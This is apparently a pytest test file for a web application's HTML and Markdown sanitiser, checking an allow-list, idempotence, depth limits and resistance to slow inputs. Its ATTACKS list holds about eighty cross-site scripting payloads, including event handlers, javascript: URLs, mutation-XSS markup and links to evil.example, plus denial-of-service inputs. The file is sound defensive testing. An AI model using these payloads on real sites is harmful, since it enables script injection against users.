"""Nothing harmful is stored, and what is stored stays as it is when it is cleaned again."""

import re
import time
from contextlib import suppress
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hub.core.access.errors import Refused
from hub.core.richtext import to_html
from hub.core.richtext.allowlist import ACTOR_PATH, CLEANER, LANGUAGE_CLASS, OWN_FILE

# Each tries another way: elements, attributes, addresses, parsers that disagree, and markup hidden in other markup.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/files/a.png' onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='/\t/evil.example/'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://example.org' style='position:fixed;inset:0' target=_top onclick=alert(1)>x</a>",
    "<a href=\"https://example.org/'onmouseover='alert(1)\">x</a>",
    "<a class=mention data-actor='\"><script>alert(1)</script>' href=x>x</a>",
    "<a class='mention evil' data-actor='018f2c00-0000-7000-8000-000000000001'>x</a>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p id=main class=header hx-get=/x hx-trigger=load data-x=1>x</p>",
    "<div hx-on:click='alert(1)' x-data='{}' v-html='x'>x</div>",
    "<hub-editor upload='//evil.example'></hub-editor>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button formaction='javascript:alert(1)'>x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' alt='pixel'>",
    "<img srcset='https://evil.example/pixel.gif 1x' src='/files/a.png'>",
    "<img src='/files/../-/logout' alt=''>",
    "<img src='/files/%2e%2e/x' alt=''>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<b <script>alert(1)</script>0",
    "<a href='x' <script>alert(1)</script>>y",
    "<<img src=x onerror=alert(1)>",
    '<p title=`"><img src=x onerror=alert(1)>`>',
    "<code class='language-x onmouseover=alert(1)'>x</code>",
    "<ol start='1 onclick=alert(1)'><li>x</li></ol>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "![x](javascript:alert(1))",
    '[x](https://example.org "onclick=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    '[@x](mention:"><script>)',
    'https://example.org/"><script>alert(1)</script>',
]


ALLOWED = {
    "a": {"href", "rel", "class", "data-actor"},
    "img": {"src", "alt", "width", "height", "loading"},
    "ol": {"start"},
    "code": {"class"},
} | {
    name: set()
    for name in "p h3 h4 blockquote ul li pre table thead tbody tr th td strong em s sub sup br hr".split()  # noqa: SIM905
}


class Checker(HTMLParser):
    """Fails at anything that the allow-list, written down here a second time, does not name."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.depth = 0

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert name in ALLOWED[tag], (tag, name)
            match tag, name:
                case "a", "href":
                    assert re.match(r"https?://|mailto:|/(?![/\\])|[#?]", value) or value == "/", value
                case "a", "class":
                    assert value == "mention"
                case "a", "data-actor":
                    assert ACTOR_PATH.match(f"/id/{value}")
                case "img", "src":
                    assert OWN_FILE.match(value)
                    assert ".." not in value
                case "code", "class":
                    assert LANGUAGE_CLASS.match(value)
        if tag not in {"br", "hr", "img"}:
            self.open.append(tag)
            self.depth = max(self.depth, len(self.open))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_comment(self, data):
        raise AssertionError("a comment")

    def handle_decl(self, decl):
        raise AssertionError("a declaration")

    handle_pi = unknown_decl = handle_decl


def check(html: str) -> Checker:
    checker = Checker()
    checker.feed(html)
    checker.close()
    assert not checker.open
    return checker


@pytest.mark.parametrize("format", ["html", "markdown"])
@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "<p>before {} after</p>", "<ul><li>{}", "<pre><code>{}", "<table><tr><td>{}"])
def test_attacks_come_out_harmless_and_stay_so(attack, around, format):
    once = to_html(around.format(attack), format)
    check(once)
    assert to_html(once, "html") == once


fragments = st.sampled_from(
    [
        *(f"<{name}>" for name in ALLOWED),
        *(f"</{name}>" for name in ALLOWED),
        *[
            "<div>",
            "</div>",
            "<h1>",
            "</h2>",
            "<b>",
            "</b>",
            "<script>",
            "</script>",
            "<svg>",
            "</svg>",
            "<style>",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "<a",
            "href=/x>",
        ],
        *ATTACKS,
        " ",
        "\n",
        "x",
        "&lt;",
        "&nbsp;",
        "&#0;",
        "https://example.org/a(b).",
        "@ilona",
        "<a class=mention data-actor=018f2c00-0000-7000-8000-000000000001>",
        "<img src=/files/a/b.png alt='x &amp; y'>",
        "<img src=https://example.org/x.png>",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(fragments, max_size=25).map("".join))
def test_cleaning_twice_changes_nothing(text):
    once = to_html(text, "html")
    check(once)
    assert to_html(once, "html") == once


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200), st.sampled_from(["html", "markdown"]))
def test_any_text_comes_out_clean(text, format):
    once = to_html(text, format)
    check(once)
    assert to_html(once, "html") == once


def test_too_long_a_text_is_refused():
    with pytest.raises(Refused):
        to_html("a" * 200_001)


def test_depth_is_limited():
    assert check(to_html("<blockquote>" * 3000 + "x", "html")).depth <= 14
    assert check(to_html("> " * 3000 + "x")).depth <= 22


HEAVY = [
    "".join(f"<b a={number}>" for number in range(3900)) + "<p>" * 3900,
    "<a href=/x>" * 7000,
    "<table>" * 7000,
    "<ul><li>" * 3900,
    "<!--" * 7000,
    "<a b='" * 7000,
    "<a b='>'" * 7000,
    "</p>" * 7000,
    "<![" * 7000,
    "&" * 100_000,
    "&#x" * 30_000,
]


HEAVY_MARKDOWN = [
    "[" * 50_000,
    "*a_ " * 25_000,
    "`" * 100_000,
    "![](" * 25_000,
    "> " * 50_000,
    "- " * 50_000,
    "|" * 100_000,
    "<" * 7000,
    "@a " * 30_000,
    "https://" * 12_000,
    "a**b" * 20_000,
]


@pytest.mark.parametrize("text", HEAVY, ids=lambda text: text[:12])
def test_heavy_html_is_read_in_time_or_refused(text):
    within_seconds(text, "html")


@pytest.mark.parametrize("text", HEAVY_MARKDOWN, ids=lambda text: text[:12])
def test_heavy_markdown_is_read_in_time_or_refused(text):
    within_seconds(text, "markdown")


def within_seconds(text: str, format: str) -> None:
    """Far above what it takes, so that a slow machine does not fail; a quadratic answer takes minutes."""
    before = time.process_time()
    with suppress(Refused):
        check(to_html(text, format))
    assert time.process_time() - before < 8


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_last_step_alone_stops_what_runs(attack):
    """The first step is trusted with order and links, never with safety."""
    html = CLEANER.clean(attack)
    for tag, attributes in elements(html):
        assert tag in ALLOWED
        assert not {name for name in attributes if name.startswith("on") or name in {"style", "srcset", "id", "target"}}
        assert not attributes.get("href", "").lower().strip().startswith(("javascript:", "vbscript:", "data:", "file:"))
        if tag == "img":
            assert OWN_FILE.match(attributes.get("src", "/files/none"))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """Every element with its attributes."""
    found: list[tuple[str, dict[str, str]]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, {name: value or "" for name, value in attrs}))

    Reader().feed(html)
    return found
